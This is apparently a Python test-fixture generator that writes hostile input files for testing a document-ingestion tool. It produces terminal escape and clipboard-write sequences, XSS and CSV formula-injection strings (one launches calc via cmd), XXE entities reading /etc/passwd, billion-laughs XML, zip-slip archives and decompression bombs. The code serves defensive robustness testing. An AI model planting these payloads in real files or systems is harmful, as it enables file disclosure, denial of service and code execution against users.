"""Files that somebody made to hurt the reader or the machine, written small where small is bad enough."""

import gzip
import io
import random
import sqlite3
import zipfile
import zlib
from collections.abc import Mapping
from email.message import EmailMessage
from pathlib import Path

ESCAPES = (
    "Title \x1b]0;pwned\x07\nclip \x1b]52;c;cHduZWQ=\x1b\\ link \x1b]8;;http://evil.test\x1b\\x\x1b]8;;\x1b\\"
    " dcs \x1bP+q544e\x1b\\ c1 \x9b31m \x9d52;c;cHduZWQ=\x9c\n"
)
BIDI = "Deal is \u202enoitalucepS\u202c \u2066x\u2069 zw\u200bsp tag\U000e0041\U000e0042 vs\U000e0100\n"
ENTITIES = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + at)} "' + f"&{chr(97 + at)};" * 10 + '">' for at in range(9)
)
TEXTS: Mapping[str, str] = {
    "esc.txt": ESCAPES,
    "bidi.txt": BIDI,
    "markup.txt": "[/] [bold]x[/bold] [@click=app.quit]go[/] [0] [/some/path] [b +\n",
    "esc\x1b[31m name.txt": "a file whose name carries an escape sequence\n",
    "xss.md": "# t\n<img src=x onerror=alert(1)> [a](javascript:alert(1)) [b](data:text/html,<script>1</script>)\n"
    "[c](vbscript:x) ![d](file:///etc/passwd)\n<script>alert(1)</script></script></style></textarea>\n",
    "jsonld.txt": "</script><script>alert(1)</script><!-- \u2028 -->",
    "csv.txt": "=HYPERLINK(\"http://e/\"&A1)\n+1+1\n-1\n@SUM(A1)\n\t=1\n\r=1\n＝1+1\n=cmd|' /C calc'!A0\n",
    "mdinject.txt": "```\n# fake heading\n---\ntitle: x\n---\n> q\n[x]: http://evil\n![[embed]]\n`a` <!-- -->",
    "spaces.txt": "a" + " " * 200_000 + "b\n",
    "longline.txt": "word " * 200_000,
    "deep.md": ">" * 20_000 + " x\n" + "[" * 20_000 + "\n" + "*a " * 20_000,
    "deep.html": "<div>" * 200_000 + "x",
    "attr.html": "<a " + 'a="b" ' * 200_000 + ">x</a>",
    "unclosed.html": "<" * 500_000,
    "comments.html": "<!--" * 500_000,
    "nested.html": "<table><tr><td>" * 20_000 + "x",
    "laugh.xml": f"<!DOCTYPE r [{ENTITIES}]><rss version='2.0'><channel><title>&j;</title></channel></rss>",
    "quad.xml": f"<!DOCTYPE r [<!ENTITY a '{'a' * 100_000}'>]><rss version='2.0'><channel><title>{'&a;' * 20_000}"
    "</title></channel></rss>",
    "xxe.xml": "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss version='2.0'><channel><title>T&x;</title>"
    "</channel></rss>",
    "esc.xml": "<rss version='2.0'><channel><item><title>I &#x9b;31m</title><link>javascript:alert(1)</link></item>"
    "</channel></rss>",
}
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)


def write(folder: Path) -> None:
    """Write all of them into a folder."""
    for name, text in TEXTS.items():
        (folder / name).write_bytes(text.encode("utf-8"))
    for name, data in _bytes().items():
        (folder / name).write_bytes(data)
    _document(folder / "ok.docx", "Japan agreed to invest. Prices may rise.")
    _document(folder / "xxe.docx", "S&x;E", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>')
    _document(folder / "laugh.docx", "S&j;E", f"<!DOCTYPE d [{ENTITIES}]>")
    _document(folder / "bomb.docx", "a", times=100_000_000)
    _packed(
        folder / "slip.epub",
        {
            "META-INF/container.xml": '<container><rootfiles><rootfile full-path="../../../../etc/passwd"/></rootfiles>'
            "</container>"
        },
    )
    _packed(
        folder / "slip.qdpx",
        {"../../../SLIPPED.txt": "x", "/SLIPPED_ABS.txt": "x", "project.qde": "<Project/>"},
    )
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x", b"0" * 1_000_000)
    _packed(folder / "nested.zip", {f"{at}.zip": inner.getvalue() for at in range(16)})
    _pdf(folder / "bomb.pdf")
    _database(folder / "evil.db")
    with (folder / "line100m.txt").open("wb") as file:
        file.truncate(100_000_000)


def _bytes() -> dict[str, bytes]:
    message = EmailMessage()
    message["Subject"], message["From"] = "a", "x@y"
    message.set_content("hi")
    subject = b"Subject: =?utf-8?b?G10wO3B3bmVkBw==?= =?utf-8?q?=1b[31mred?="
    return {
        "nul.txt": b"abc\0def",
        "surrogate.txt": b"a\xed\xa0\x80b",
        "empty.txt": b"",
        "bom.txt": b"\xef\xbb\xbf",
        "u16le.txt": "日本 rare earths".encode("utf-16"),
        "crlf.txt": b"First line.\r\nSecond line.\rThird line.\n",
        "cp932.txt": "レアアースの供給網を日米で再編する。".encode("cp932"),
        "bin.txt": random.Random(5).randbytes(4096),
        "bomb.gz": gzip.compress(bytes(10_000_000)),
        "esc.eml": message.as_bytes().replace(b"Subject: a", subject),
        "deepmime.eml": b"".join(
            b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (at, at) for at in range(3000)
        )
        + b"\r\nx",
    }


def _packed(path: Path, members: Mapping[str, str | bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def _document(path: Path, text: str, doctype: str = "", times: int = 1) -> None:
    """Write a Word document whose only paragraph is a text, so many times."""
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    before = f'{doctype}<w:document xmlns:w="{space}"><w:body><w:p><w:r><w:t>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("_rels/.rels", RELATIONS)
        with archive.open("word/document.xml", "w") as member:
            member.write(before.encode())
            for size in [min(times, 1_000_000)] * -(-times // 1_000_000):
                member.write(text.encode() * size)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")


def _pdf(path: Path) -> None:
    """Write a page whose instructions unpack to 340 MB."""
    packer = zlib.compressobj(9)
    stream = b"".join(packer.compress(b"q 1 0 0 1 0 0 cm " * 100_000) for _ in range(200)) + packer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(stream), stream),
    ]
    data, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    tail = b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % len(data)
    path.write_bytes(data + b"xref\n0 5\n0000000000 65535 f \n" + table + tail)


def _database(path: Path) -> None:
    connection = sqlite3.connect(path)
    connection.executescript(
        "create table briefings(id integer primary key, title text, body text);"
        "insert into briefings values(1, 't\x1b]52;c;cHduZWQ=\x1b\\', 'b');"
        "create trigger tr after insert on briefings begin delete from briefings where id <> new.id; end;"
        "create view annotations as with recursive c(x) as (select 1 union all select x + 1 from c) select x from c;"
        "pragma user_version = 999999;"
    )
    connection.commit()
    connection.close()
